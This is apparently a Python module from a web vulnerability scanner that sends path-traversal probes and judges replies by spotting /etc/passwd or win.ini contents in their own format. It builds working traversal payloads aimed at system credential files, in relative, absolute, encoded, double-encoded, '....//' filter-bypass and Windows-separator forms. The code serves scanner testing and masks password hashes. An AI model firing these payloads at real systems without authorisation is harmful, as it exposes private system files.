"""Pure judges of the traversal family: the paths it sends, and file contents in their format.

Payloads name `/etc/passwd` and `win.ini`, relative (`../` eight deep, enough for most web
roots), absolute, percent-encoded (`..%2f`, `%2e%2e%2f`), double-encoded (`%252e%252e%252f`),
with a filter bypass (`....//`, which becomes `../` when `../` is stripped once), and with
Windows separators (`..\\`, `c:\\`). Encoded payloads are `wire` values: they go on the wire
as written.

A file counts only in its own format, never by a keyword:

- `/etc/passwd`: at least `PASSWD_LINES` lines of `name:password:uid:gid:gecos:/home:/shell`,
  one of them root's with uid and gid 0.
- `win.ini`: at least `WININI_SECTIONS` of its own section headers (`[fonts]`,
  `[extensions]`, `[mci extensions]`, `[files]`, `[Mail]`, ...).

Lines that any baseline answer already holds do not count (a page that shows a sample passwd
file on every answer proves nothing), and the body is read as sent, as its JSON strings and
as HTML without tags (`signatures.text_views`).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Literal

from probe.exchange import ResponseRecord
from probe.probes.signatures import text_views

FileKind = Literal["passwd", "win.ini"]

#: Directories climbed by relative payloads.
DEPTH = 8
#: passwd lines needed, root's among them.
PASSWD_LINES = 3
#: win.ini section headers needed.
WININI_SECTIONS = 3
_EXCERPT_LINES = 8
_PASSWD = re.compile(
    r"^[ \t]*([a-z_][a-z0-9_.-]{0,31}\$?):([^:\s]*):(\d{1,10}):(\d{1,10}):([^:\n]*):"
    r"(/[^:\n]*):(/[^:\s]*)?[ \t]*\r?$",
    re.MULTILINE,
)
_SECTION = re.compile(r"^[ \t]*\[([^\]\r\n]{1,40})\][ \t]*\r?$", re.MULTILINE)
_WININI_SECTIONS = frozenset(
    {
        "fonts",
        "extensions",
        "mci extensions",
        "files",
        "mail",
        "windows",
        "desktop",
        "intl",
        "ports",
        "devices",
        "printerports",
        "compatibility",
        "embedding",
        "sound",
    }
)
# Password fields that hold no secret: shown as they are in an excerpt.
_NO_SECRET = frozenset({"", "x", "*", "!", "!!", "!*"})


@dataclass(frozen=True)
class Payload:
    """One traversal path.

    Attributes:
        label: How the check's detail names it ("relative `../`").
        value: The path as sent.
        wire: Sent exactly as written (already percent-encoded).
        kind: The file it names.
    """

    label: str
    value: str
    wire: bool
    kind: FileKind

    def control(self, name: str) -> str:
        """The same path naming a file `name` that does not exist, in the same folder."""
        target = "passwd" if self.kind == "passwd" else "win.ini"
        replacement = name if self.kind == "passwd" else f"{name}.ini"
        return self.value[: -len(target)] + replacement

    @property
    def bare(self) -> str:
        """The file's name alone, with no path: the keyword a search page might match."""
        return "passwd" if self.kind == "passwd" else "win.ini"


def payloads(depth: int = DEPTH) -> tuple[Payload, ...]:
    """Every traversal path, in the order they are tried."""
    up = "../" * depth
    return (
        Payload("relative `../`", up + "etc/passwd", False, "passwd"),
        Payload("absolute `/etc/passwd`", "/etc/passwd", False, "passwd"),
        Payload("encoded `..%2f`", "..%2f" * depth + "etc%2fpasswd", True, "passwd"),
        Payload("encoded `%2e%2e%2f`", "%2e%2e%2f" * depth + "etc%2fpasswd", True, "passwd"),
        Payload(
            "double-encoded `%252e%252e%252f`",
            "%252e%252e%252f" * depth + "etc%252fpasswd",
            True,
            "passwd",
        ),
        Payload("filter bypass `....//`", "....//" * depth + "etc/passwd", False, "passwd"),
        Payload(
            "relative `..\\` to win.ini", "..\\" * depth + "windows\\win.ini", False, "win.ini"
        ),
        Payload("absolute `c:\\windows\\win.ini`", "c:\\windows\\win.ini", False, "win.ini"),
    )


@dataclass(frozen=True)
class FileContent:
    """A file found in an answer, in its own format.

    Attributes:
        kind: Which file.
        lines: Its structured lines that no baseline holds (passwd lines, win.ini headers).
    """

    kind: FileKind
    lines: tuple[str, ...]

    def excerpt(self) -> str:
        """The first lines, password fields that could hold a hash masked."""
        shown = [_masked(line) if self.kind == "passwd" else line for line in self.lines]
        return "\n".join(shown[:_EXCERPT_LINES])


def texts(response: ResponseRecord) -> list[str]:
    """A body as sent and as a reader sees it (JSON strings decoded, HTML tags dropped)."""
    views = text_views(response.text(), response.content_type)
    return [views.raw] if views.plain == views.raw else [views.raw, views.plain]


def passwd_lines(text: str) -> list[str]:
    """The lines of `text` in passwd format, in order, each once."""
    return list(dict.fromkeys(m.group(0).strip() for m in _PASSWD.finditer(text)))


def winini_sections(text: str) -> list[str]:
    """win.ini's own section headers in `text`, in order, each once (`[fonts]`)."""
    found = (m.group(0).strip() for m in _SECTION.finditer(text))
    return list(dict.fromkeys(h for h in found if h[1:-1].strip().lower() in _WININI_SECTIONS))


def structured(kind: FileKind, text: str) -> list[str]:
    """The structured lines of `kind` in `text`."""
    return passwd_lines(text) if kind == "passwd" else winini_sections(text)


def file_content(
    kind: FileKind, answer: ResponseRecord, baselines: Iterable[ResponseRecord]
) -> FileContent | None:
    """The file in `answer` when its lines absent from every baseline still make the file."""
    known = {line for b in baselines for text in texts(b) for line in structured(kind, text)}
    lines = [line for text in texts(answer) for line in structured(kind, text)]
    new = tuple(dict.fromkeys(line for line in lines if line not in known))
    return FileContent(kind, new) if _is_file(kind, new) else None


def _is_file(kind: FileKind, lines: tuple[str, ...]) -> bool:
    if kind == "win.ini":
        return len(lines) >= WININI_SECTIONS
    has_root = any(re.match(r"root:[^:]*:0:0:", line) for line in lines)
    return has_root and len(lines) >= PASSWD_LINES


def _masked(line: str) -> str:
    name, _, rest = line.partition(":")
    password, _, rest = rest.partition(":")
    return f"{name}:{password if password in _NO_SECRET else '***'}:{rest}"
